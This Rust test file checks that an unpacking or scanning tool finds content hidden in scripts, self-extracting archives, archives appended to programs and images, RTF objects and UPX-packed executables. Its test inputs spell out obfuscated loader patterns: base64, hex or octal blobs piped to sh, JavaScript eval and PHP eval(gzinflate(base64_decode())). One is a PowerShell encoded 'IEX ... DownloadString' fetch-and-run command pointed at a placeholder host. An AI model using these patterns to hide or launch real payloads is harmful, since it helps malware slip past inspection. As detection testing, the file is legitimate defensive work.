//! Things in things that are no archives: blobs in scripts, archives behind programs and pictures, packed programs.

use crate::samples::{ZipMember, base64, deflate, elf, gzip, noise, pe, shell, words, zip};
use crate::seen::see;
use unpack::{Kind, Oddity, Reason};

const HIDDEN: &[u8] = b"#!/bin/sh\n# harmless stand-in\nprintf '%s' 'the hidden text' >/dev/null\n";

#[test]
fn blobs_in_scripts() {
    let hex: String = HIDDEN.iter().map(|b| format!("{b:02x}")).collect();
    let escapes: String = HIDDEN.iter().map(|b| format!("\\x{b:02X}")).collect();
    let numbers: Vec<String> = HIDDEN.iter().map(|b| b.to_string()).collect();
    let check = |text: String| {
        let seen = see(text.as_bytes());
        assert!(seen.members.iter().any(|one| one.bytes == HIDDEN), "{text}: {:?}", seen.paths());
        assert!(seen.outcome.complete(), "{:?}", seen.outcome);
    };
    check(format!("#!/bin/sh\necho {} | base64 -d | sh\n", base64(HIDDEN)));
    check(format!(
        "#!/bin/sh\nbase64 -d <<E | sh\n{}\nE\n",
        base64(HIDDEN)
            .as_bytes()
            .chunks(64)
            .map(|l| String::from_utf8_lossy(l).into_owned())
            .collect::<Vec<_>>()
            .join("\n")
    ));
    check(format!("#!/bin/sh\necho '{hex}' | xxd -r -p | sh\n"));
    check(format!("#!/usr/bin/python3\nexec(b'{escapes}')\n"));
    let octals: String = HIDDEN.iter().map(|b| format!("\\{b:03o}")).collect();
    check(format!("#!/bin/sh\nprintf '{octals}' | sh\n"));
    let blob = base64(HIDDEN);
    let pieces: Vec<&str> = blob.as_bytes().chunks(24).map(|piece| std::str::from_utf8(piece).unwrap()).collect();
    check(format!("<html><script>var a = [\"{}\"].join('');</script></html>", pieces.join("\",\n  \"")));
    check(format!("var a = '{}'; eval(a);", pieces.join("' + '")));
    check(format!("var a = String.fromCharCode({});\neval(a);\nfunction(x)", numbers.join(",")));
    check(format!("<html><body><a href=\"data:text/x-sh;base64,{}\">x</a></body></html>", base64(HIDDEN)));
    // A script in a script in a script.
    let twice = format!("#!/bin/sh\necho {} | base64 -d | sh\n", base64(HIDDEN));
    check(format!("#!/bin/sh\necho {} | base64 -d | sh\n", base64(twice.as_bytes())));
}

#[test]
fn blobs_that_are_compressed_too() {
    let php = format!("<?php eval(gzinflate(base64_decode('{}'))); ?>", base64(&deflate(&words(900))));
    assert!(see(php.as_bytes()).holds(&words(900)));
    let sh = format!("#!/bin/sh\necho {} | base64 -d | gunzip | sh\n", base64(&gzip(HIDDEN)));
    assert!(see(sh.as_bytes()).holds(HIDDEN));
}

#[test]
fn encoded_commands_of_powershell() {
    let wide: Vec<u8> = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let seen = see(format!("@echo off\r\npowershell -enc {}\r\n", base64(&wide)).as_bytes());
    assert!(seen.holds(b"IEX (New-Object Net.WebClient)"), "{:?}", seen.paths());
}

#[test]
fn shell_archives() {
    let content = [words(3_000), HIDDEN.to_vec()].concat();
    let Some(bytes) =
        shell("shar", &[("x", &content), ("y.bin", &noise(2_000))], "shar -B -q x y.bin > o 2>/dev/null", "o")
    else {
        return;
    };
    let seen = see(&bytes);
    assert!(seen.holds(HIDDEN) && seen.holds(&noise(2_000)), "{:?}", seen.paths());
}

#[test]
fn self_extracting_scripts() {
    for flags in ["--gzip", "--bzip2", "--xz", "--zstd", "--base64", "--nocomp"] {
        let line = format!("makeself --quiet {flags} t o label ./run.sh >/dev/null 2>&1");
        let Some(bytes) = shell("makeself", &[("t/run.sh", HIDDEN), ("t/data", &words(9_000))], &line, "o") else {
            return;
        };
        assert_eq!(unpack::kind(&bytes), Kind::Shell);
        let seen = see(&bytes);
        assert!(seen.holds(HIDDEN) && seen.holds(&words(9_000)), "{flags}: {:?}", seen.paths());
        assert!(seen.outcome.complete(), "{flags}: {:?}", seen.outcome);
        // In base64 it is a blob of the script.
        assert!(flags == "--base64" || seen.outcome.odd.iter().any(|odd| odd.oddity == Oddity::Embedded));
    }
}

#[test]
fn a_zip_at_the_end_of_anything() {
    let archive = zip(&[ZipMember::deflated("hidden", HIDDEN), ZipMember::stored("other", b"1")]);
    let fronts: [&[u8]; 6] = [
        &elf(&noise(3_000)),
        &pe(&noise(3_000)),
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
        b"%PDF-1.4\n1 0 obj << >> endobj\n%%EOF\n",
        b"#!/usr/bin/env python3\nprint(1)\n",
        &noise(5_000),
    ];
    for front in fronts {
        let seen = see(&[front, &archive].concat());
        assert_eq!(seen.bytes("f!(zip)!hidden"), HIDDEN);
        assert_eq!(seen.bytes("f!(zip)!other"), b"1");
        assert!(seen.outcome.complete(), "{:?}", seen.outcome);
    }
}

#[test]
fn what_hangs_behind_a_program() {
    let files: &[(&str, &[u8])] = &[("t/hidden", HIDDEN)];
    let makers = [
        ("7z", "7z a o t/hidden >/dev/null; mv o.7z o"),
        ("mksquashfs", "mksquashfs t o -quiet -no-progress >/dev/null"),
        ("gcab", "gcab -c o t/hidden"),
        ("xz", "tar cJf o t"),
    ];
    for (program, line) in makers {
        let Some(archive) = shell(program, files, line, "o") else { continue };
        for front in [elf(&words(3_000)), pe(&words(3_000))] {
            let seen = see(&[&front[..], &archive].concat());
            assert!(
                seen.members.iter().any(|one| one.path.starts_with("f!(overlay)!") && one.bytes == HIDDEN),
                "{line}: {:?}",
                seen.paths()
            );
            assert!(seen.outcome.complete(), "{:?}", seen.outcome);
        }
    }
    // An AppImage is that, with a mark.
    let Some(archive) = shell("mksquashfs", files, "mksquashfs t o -quiet -no-progress >/dev/null", "o") else {
        return;
    };
    let mut image = [&elf(&words(3_000))[..], &archive].concat();
    image[8..11].copy_from_slice(b"AI\x02");
    assert_eq!(unpack::kind(&image), Kind::AppImage);
    assert!(see(&image).holds(HIDDEN));
    assert!(!see(&image[..3_000]).outcome.complete());
}

#[test]
fn programs_within_others() {
    let inner = elf(&words(700));
    for outer in [
        elf(&[&noise(4_000)[..], &inner, &noise(100)].concat()),
        [&noise(4_000)[..], &pe(&words(900)), &inner].concat(),
    ] {
        let seen = see(&outer);
        assert!(seen.members.iter().any(|one| one.kind == Some(Kind::Elf) && one.bytes == inner), "{:?}", seen.paths());
        assert!(seen.outcome.complete());
    }
}

#[test]
fn a_rar_within_a_program_is_said_its_magic_alone_is_not() {
    let block = |head: &[u8]| [&(crc32fast::hash(head) as u16).to_le_bytes()[..], head].concat();
    let rar = [&b"Rar!\x1a\x07\0"[..], &block(b"\x73\0\0\x0d\0\0\0\0\0\0\0")].concat();
    let check = |within: &[u8], reasons: &[Reason]| {
        let program = elf(&[&noise(500)[..], within, &noise(100)].concat());
        assert_eq!(see(&program).reasons(), reasons);
    };
    check(&rar, &[Reason::Unsupported]);
    check(b"Rar!\x1a\x07\0 and Rar!\x1a\x07\x01\0 are magics", &[]);
}

#[test]
fn containers_that_are_not_opened_or_are_no_more_than_a_start_are_said() {
    let starts: [&[u8]; 7] = [
        b"\x60\xea\x2c\0\x22\x0b\x01\x02",
        b"\x21\x8a-lh5-\x10\0\0\0",
        b"ITSF\x03\0\0\0\x60\0\0\0",
        b"SZDD\x88\xf0\x27\x33A\0",
        b"(This file must be converted with BinHex 4.0)\r\n:#'0XB@dZ",
        b"\x78\x9f\x3e\x22\xaf\x01\x01\x06",
        b"Rar!\x1a\x07\x01\0",
    ];
    for start in starts {
        assert!(!see(&[start, &noise(300)].concat()).outcome.complete(), "{start:?}");
    }
}

#[test]
fn objects_in_rtf() {
    let object: String = [b"\x01\x05\0\0\x02\0\0\0", &b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"[..], &noise(300)]
        .concat()
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let lines: Vec<String> = object.as_bytes().chunks(64).map(|l| String::from_utf8_lossy(l).into_owned()).collect();
    let text = format!("{{\\rtf1{{\\object\\objemb{{\\*\\objdata {}}}}}}}", lines.join("\r\n"));
    let seen = see(text.as_bytes());
    assert!(seen.holds(&noise(300)), "{:?}", seen.paths());
}

#[test]
fn clean_texts_and_programs_are_complete() {
    let text = format!("{}\nda39a3ee5e6b4b0d3255bfef95601890afd80709  a\n", String::from_utf8_lossy(&words(20_000)));
    let seen = see(text.as_bytes());
    assert!(seen.members.is_empty() && seen.outcome.complete());
    // This very program has all magics in it.
    let own = std::fs::read("/proc/self/exe").unwrap();
    let seen = see(&own);
    assert!(seen.outcome.complete(), "{:?}", seen.outcome);
}

/// Its records around blocks that are not compressed: what the decoders of blocks are put into.
#[test]
fn the_records_of_a_packed_program() {
    let original = elf(&words(9_000));
    let mut packed = elf(b"");
    packed.extend(b"\0\0\0\0UPX!\x40\x01\x0d\x16\0\0\0\0");
    packed.extend((original.len() as u32).to_le_bytes());
    packed.extend(4096u32.to_le_bytes());
    for block in original.chunks(4096) {
        packed.extend((block.len() as u32).to_le_bytes());
        packed.extend((block.len() as u32).to_le_bytes());
        packed.extend([2, 0, 0, 0]);
        packed.extend(block);
    }
    packed.extend(b"\0\0\0\0UPX!\0\0\0\0");
    let seen = see(&packed);
    assert_eq!(seen.bytes("f!(unpacked)"), original);
    assert!(seen.outcome.complete(), "{:?}", seen.outcome);
    assert_eq!(seen.outcome.odd[0].oddity, Oddity::Packed);
    assert!(!see(&packed[..6_000]).outcome.complete());
}

/// Behind the headers of a program, where a loader looks, the mark says nothing.
#[test]
fn a_packed_program_whose_mark_was_changed() {
    let mut packed = elf(b"")[..120].to_vec();
    packed.extend(b"\0\0\0\0YTS!\x40\x01\x0d\x16\0\0\0\0");
    packed.extend(20_000u32.to_le_bytes());
    packed.extend(4096u32.to_le_bytes());
    packed.extend(4096u32.to_le_bytes());
    packed.extend(900u32.to_le_bytes());
    packed.extend([8, 0, 0, 0]);
    packed.extend(noise(900));
    let seen = see(&packed);
    assert!(seen.outcome.odd.iter().any(|odd| odd.oddity == Oddity::Packed && odd.detail.contains("changed")));
    assert!(!seen.outcome.complete(), "nothing sensible comes out of noise");
    // A program that has its own things there.
    packed[120 + 4 + 6] = b'l';
    assert!(see(&packed).outcome.odd.is_empty());
}

/// With each method that the tool has.
#[test]
fn programs_that_upx_packed() {
    for flags in ["--nrv2b", "--nrv2d", "--nrv2e", "--lzma", "--nrv2b --no-filter", "--nrv2e --all-filters -9"] {
        let line = format!(
            "cp \"$(command -v cpio || command -v tar)\" in; upx -q {flags} -o out in >/dev/null 2>&1; cat in > in.copy; tar cf o in.copy out"
        );
        let Some(bytes) = shell("upx", &[], &line, "o") else { return };
        let seen = see(&bytes);
        let original = seen.bytes("f!in.copy");
        let unpacked = seen.bytes("f!out!(unpacked)");
        assert!(seen.outcome.complete(), "{flags}: {:?}", seen.outcome);
        assert!(seen.outcome.odd.iter().any(|odd| odd.oddity == Oddity::Packed));
        let code = &original[original.len() / 4..original.len() / 2];
        assert!(unpacked.windows(code.len()).any(|window| window == code), "{flags}");
    }
}
